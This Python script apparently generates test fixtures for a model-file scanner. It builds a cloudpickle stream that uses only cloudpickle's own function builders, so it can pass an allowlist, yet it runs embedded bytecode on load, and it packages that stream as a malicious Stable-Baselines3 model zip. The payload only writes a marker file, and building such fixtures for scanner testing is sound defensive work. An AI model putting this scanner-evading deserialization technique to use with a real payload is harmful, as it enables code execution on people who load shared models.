#!/usr/bin/python3
"""Writes schedule_keys.pkl and malicious/sb3_schedule_keys.zip: a cloudpickle
stream that calls only cloudpickle's function builders, yet runs its own
bytecode inside cloudpickle.loads. _function_setstate(f2, ({"keys": f3}, ...))
puts f3 in f2's __dict__; _function_setstate(f1, (f2, ...)) then runs
f1.__dict__.update(f2), and dict.update calls f2.keys, which Python finds in
f2's __dict__: f3, which writes the harmless marker /tmp/modelgate_sb3_marker.

Needs Debian's python3-cloudpickle: /usr/bin/python3 make_schedule_keys.py
"""
import base64
import io
import json
import os
import zipfile

import cloudpickle.cloudpickle as cc
from cloudpickle import cloudpickle_fast as cf

HERE = os.path.dirname(os.path.abspath(__file__))
MARKER = "/tmp/modelgate_sb3_marker"

evil = eval("lambda *a: (open(%r, 'w').write('ran'), [])[1]" % MARKER).__code__
plain = (lambda *a: None).__code__


class Fn:
    def __init__(self, code):
        self.code = code


class Call:
    def __init__(self, f, args):
        self.f, self.args = f, args


class Pickler(cf.CloudPickler):
    def reducer_override(self, obj):
        if isinstance(obj, Fn):
            return (cc._make_function, (obj.code, {}, None, None, None))
        if isinstance(obj, Call):
            return (obj.f, obj.args)
        return super().reducer_override(obj)


def slots():
    return {"__globals__": {}, "__closure__": None, "_cloudpickle_submodules": []}


f1, f2, f3 = Fn(plain), Fn(plain), Fn(evil)
buf = io.BytesIO()
Pickler(buf, protocol=5).dump([
    Call(cf._function_setstate, (f2, ({"keys": f3}, slots()))),
    Call(cf._function_setstate, (f1, (f2, slots()))),
    f1,
])
raw = buf.getvalue()
with open(os.path.join(HERE, "schedule_keys.pkl"), "wb") as f:
    f.write(raw)
data = {"learning_rate": 0.0003,
        "lr_schedule": {":type:": "<class 'function'>", ":serialized:": base64.b64encode(raw).decode()}}
with zipfile.ZipFile(os.path.join(HERE, "malicious", "sb3_schedule_keys.zip"), "w") as z:
    z.writestr("data", json.dumps(data, indent=4))
    z.writestr("_stable_baselines3_version", "2.3.2")
